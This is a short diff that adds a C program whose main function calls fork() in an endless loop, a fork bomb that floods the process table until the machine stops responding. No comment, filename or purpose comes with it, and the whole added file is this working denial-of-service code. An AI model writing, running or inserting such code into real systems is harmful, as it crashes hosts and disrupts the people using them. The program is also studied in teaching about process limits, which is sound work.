@@ -1,0 +1,6 @@
+#include <stdbool.h>
+#include <unistd.h>
+int main() {
+    while (true) fork();
+    return 0;
+}
